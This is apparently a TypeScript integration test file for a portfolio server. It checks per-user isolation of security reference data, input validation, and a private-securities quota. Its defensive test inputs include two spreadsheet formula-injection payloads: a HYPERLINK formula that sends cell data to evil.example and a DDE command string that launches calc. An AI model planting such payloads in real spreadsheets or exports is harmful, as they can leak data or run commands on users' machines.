// Securities as reference data: what one user types about a security (the currency of a ticker the
// market layer does not know, an ISIN) is that user's own record. Another user never sees it and
// is never constrained by it; an id of another user's private security behaves like a missing one;
// a bad ISIN or ticker in fetchAdditionalData is refused exactly as createTransaction refuses it,
// and a refused call writes nothing. The server runs its market jobs on the simulated provider,
// which knows every symbol-like ticker (those become shared) and no other (those stay private).
import { randomUUID } from 'node:crypto';
import { signUpUser, type TestUser } from '../test/emulatorUsers';
import { CREATE_TRANSACTIONS, SET_MANUAL_PRICES, createPortfolio, createTransactions, dataOf, errorOf, listTransactions } from '../test/ledgerCalls';
import { MANUAL_PRICES, trade } from '../test/ledgerFixtures';
import { testDatabases, useTestServer, type TestServer } from '../test/testServer';

const FETCH = 'mutation ($inputs: [StockInput!]!) { fetchAdditionalData(stockInputs: $inputs) { _id ticker ISIN currency name } }';
const HOLDINGS = 'query { portfolioHoldings { stock { _id ticker ISIN } } }';

interface StockOut {
  _id: string;
  ticker: string;
  ISIN: string | null;
  currency: string | null;
  name: string | null;
}

/** A ticker the simulated provider knows (symbol-like), new to this server. */
const knownTicker = () => `K${randomUUID().slice(0, 6).toUpperCase()}`;
/** A ticker no provider knows (an underscore is not symbol-like), new to this server. */
const unknownTicker = () => `MY_${randomUUID().slice(0, 6).toUpperCase()}`;

const APPLE_ISIN = 'US0378331005';
const SAP_ISIN = 'DE0007164600';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ISIN")';
const EIGHT_KB = 'X'.repeat(8 * 1024);

/** Attacks are answered quickly; the bound is generous for a loaded machine. */
const BOUND_MS = 2_000;

async function timed<T>(work: Promise<T>): Promise<T> {
  const started = performance.now();
  const result = await work;
  expect(performance.now() - started).toBeLessThan(BOUND_MS);
  return result;
}

async function lookUp(server: TestServer, user: TestUser, inputs: Record<string, unknown>[]): Promise<StockOut[]> {
  return (await dataOf<{ fetchAdditionalData: StockOut[] }>(server, user.idToken, FETCH, { inputs })).fetchAdditionalData;
}

async function healthy(server: TestServer): Promise<void> {
  const response = await fetch(`${server.url}/healthz`);
  expect(response.status).toBe(200);
}

describe.each(testDatabases)('securities as reference data on %s', (kind) => {
  const server = useTestServer(kind, { MARKET_JOBS: 'on', QUOTA_PRIVATE_SECURITIES: '5' });
  let a: TestUser;
  let b: TestUser;
  let portfolioA: string;
  let portfolioB: string;

  beforeAll(async () => {
    [a, b] = await Promise.all([signUpUser(), signUpUser()]);
    [portfolioA, portfolioB] = await Promise.all([createPortfolio(server, a.idToken, 'A'), createPortfolio(server, b.idToken, 'B')]);
  });

  it.each([
    ['a ticker no provider knows', unknownTicker],
    ['a ticker the market layer knows', knownTicker],
  ])('the currency of the first trade in %s does not constrain another user', async (_label, ticker) => {
    const symbol = ticker();
    await createTransactions(server, a.idToken, [trade(portfolioA, 'Buy', '2024-01-02', 1, 10, { ticker: symbol, currency: 'EUR', isApplyExchangeRate: false })]);
    const { transactions } = await timed(
      createTransactions(server, b.idToken, [trade(portfolioB, 'Buy', '2024-01-03', 2, 11, { ticker: symbol, currency: 'USD', isApplyExchangeRate: false })]),
    );
    expect(transactions[0]).toMatchObject({ ticker: symbol, currency: 'USD' });
    await healthy(server);
  });

  it.each([
    ['a ticker no provider knows', unknownTicker, false],
    ['a ticker the market layer knows', knownTicker, true],
  ])('an ISIN one user gives %s is theirs alone', async (_label, ticker, shared) => {
    const symbol = ticker();
    await createTransactions(server, a.idToken, [trade(portfolioA, 'Buy', '2024-01-02', 1, 10, { ticker: symbol, ISIN: APPLE_ISIN })]);
    const [lookedUpByA] = await lookUp(server, a, [{ ticker: symbol, ISIN: APPLE_ISIN }]);

    // B looks the ticker up, trades it, lists it: no trace of A's ISIN anywhere.
    const [seen] = await timed(lookUp(server, b, [{ ticker: symbol }]));
    expect(seen!.ISIN).toBeNull();
    // One shared security when a provider knows the ticker; otherwise each user has their own.
    expect(seen!._id === lookedUpByA!._id).toBe(shared);
    await createTransactions(server, b.idToken, [trade(portfolioB, 'Buy', '2024-01-03', 1, 10, { ticker: symbol })]);
    const mine = (await listTransactions(server, b.idToken)).filter((t) => t.ticker === symbol);
    expect(mine.map((t) => (t.stock as { ISIN: string | null }).ISIN)).toEqual([null]);
    const holdings = (await dataOf<{ portfolioHoldings: { stock: { ticker: string; ISIN: string | null } }[] }>(server, b.idToken, HOLDINGS)).portfolioHoldings;
    expect(holdings.filter((h) => h.stock.ticker === symbol).map((h) => h.stock.ISIN)).toEqual([null]);

    // B's own ISIN is B's; A still sees A's.
    await createTransactions(server, b.idToken, [trade(portfolioB, 'Buy', '2024-01-04', 1, 10, { ticker: symbol, ISIN: SAP_ISIN })]);
    expect((await lookUp(server, b, [{ ticker: symbol }]))[0]!.ISIN).toBe(SAP_ISIN);
    expect((await lookUp(server, a, [{ ticker: symbol }]))[0]!.ISIN).toBe(APPLE_ISIN);
    const ofA = (await listTransactions(server, a.idToken)).filter((t) => t.ticker === symbol);
    expect(ofA.map((t) => (t.stock as { ISIN: string | null }).ISIN)).toEqual([APPLE_ISIN]);
  });

  it('another user\'s private ticker cannot be read through fetchAdditionalData, nor its id used', async () => {
    const symbol = unknownTicker();
    const { stocks } = await createTransactions(server, a.idToken, [trade(portfolioA, 'Buy', '2024-01-02', 1, 10, { ticker: symbol, currency: 'CHF', isApplyExchangeRate: false, ISIN: APPLE_ISIN })]);
    const privateId = stocks[0]!._id;
    expect((await lookUp(server, a, [{ ticker: symbol }]))[0]).toMatchObject({ _id: privateId, ISIN: APPLE_ISIN, currency: 'CHF' });

    const [seen] = await timed(lookUp(server, b, [{ ticker: symbol }]));
    expect(seen).toMatchObject({ ticker: symbol, ISIN: null, currency: null });
    expect(seen!._id).not.toBe(privateId);

    // The id of A's private security is, to B, a missing one.
    const missing = randomUUID();
    for (const query of [MANUAL_PRICES, SET_MANUAL_PRICES]) {
      const variables = { prices: [{ date: '2024-01-02', close: 1 }] };
      const foreign = await timed(errorOf(server, b.idToken, query, { ...variables, id: privateId }));
      const absent = await errorOf(server, b.idToken, query, { ...variables, id: missing });
      expect(foreign).toEqual(absent);
      expect(foreign).toMatchObject({ extensions: { code: 'NOT_FOUND' } });
    }
    expect((await dataOf<{ manualPrices: unknown[] }>(server, a.idToken, MANUAL_PRICES, { id: privateId })).manualPrices).toEqual([]);
    await healthy(server);
  });

  it.each([
    ['an 8 KB ISIN', EIGHT_KB],
    ['a spreadsheet formula as ISIN', FORMULA],
    ['an ISIN with a wrong check digit', 'US0378331006'],
  ])('refuses %s in fetchAdditionalData as createTransaction does, and writes nothing', async (_label, isin) => {
    const symbol = unknownTicker();
    const created = await errorOf(server, a.idToken, CREATE_TRANSACTIONS, { input: [trade(portfolioA, 'Buy', '2024-01-02', 1, 10, { ticker: symbol, ISIN: isin })] });
    const looked = await timed(errorOf(server, a.idToken, FETCH, { inputs: [{ ticker: symbol, ISIN: isin }] }));
    expect(looked.extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
    // The same rule, the same words, each naming its own argument.
    expect(looked.message).toBe(created.message.replace('transactionInput[0].ISIN', 'stockInputs[0].ISIN'));
    expect(looked.message).toContain('stockInputs[0].ISIN');
    expect(looked.message.length).toBeLessThan(200);
    // Nothing written: the ticker is unknown to A's ledger, and the lookup shows no ISIN.
    expect((await listTransactions(server, a.idToken)).filter((t) => t.ticker === symbol)).toEqual([]);
    expect((await lookUp(server, a, [{ ticker: symbol }]))[0]!.ISIN).toBeNull();
    await healthy(server);
  });

  it('refuses a ticker in fetchAdditionalData as createTransaction does', async () => {
    const ticker = '=cmd|\' /C calc\'!A0';
    const created = await errorOf(server, a.idToken, CREATE_TRANSACTIONS, { input: [trade(portfolioA, 'Buy', '2024-01-02', 1, 10, { ticker })] });
    const looked = await timed(errorOf(server, a.idToken, FETCH, { inputs: [{ ticker }] }));
    expect(looked.extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
    expect(looked.message).toBe(created.message.replace('transactionInput[0].ticker', 'stockInputs[0].ticker'));
    await healthy(server);
  });

  it('caps the private securities of a user with a clear message; unused ones make room first', async () => {
    const user = await signUpUser();
    const portfolio = await createPortfolio(server, user.idToken, 'Capped');
    // Five lookups of unknown tickers fill the cap with unused private securities...
    await lookUp(server, user, Array.from({ length: 5 }, () => ({ ticker: unknownTicker() })));
    // ...which make room for securities in use.
    const used = Array.from({ length: 5 }, () => unknownTicker());
    await createTransactions(server, user.idToken, used.map((ticker, i) => trade(portfolio, 'Buy', `2024-01-0${i + 2}`, 1, 10, { ticker })));

    const extra = unknownTicker();
    for (const [query, variables] of [
      [CREATE_TRANSACTIONS, { input: [trade(portfolio, 'Buy', '2024-02-01', 1, 10, { ticker: extra })] }],
      [FETCH, { inputs: [{ ticker: extra }] }],
    ] as const) {
      const error = await timed(errorOf(server, user.idToken, query, variables));
      expect(error).toMatchObject({
        message: 'You can have at most 5 securities of your own (tickers no market data provider knows). Delete the transactions and manual prices of those you no longer need, then try again.',
        extensions: { code: 'QUOTA_EXCEEDED' },
      });
    }
    expect((await listTransactions(server, user.idToken)).map((t) => t.ticker).sort()).toEqual([...used].sort());
    // Known tickers are shared reference data: not counted.
    await createTransactions(server, user.idToken, [trade(portfolio, 'Buy', '2024-02-01', 1, 10, { ticker: knownTicker() })]);
    // Another user is not affected by this one's cap.
    await lookUp(server, b, [{ ticker: extra }]);
    await healthy(server);
  });
});
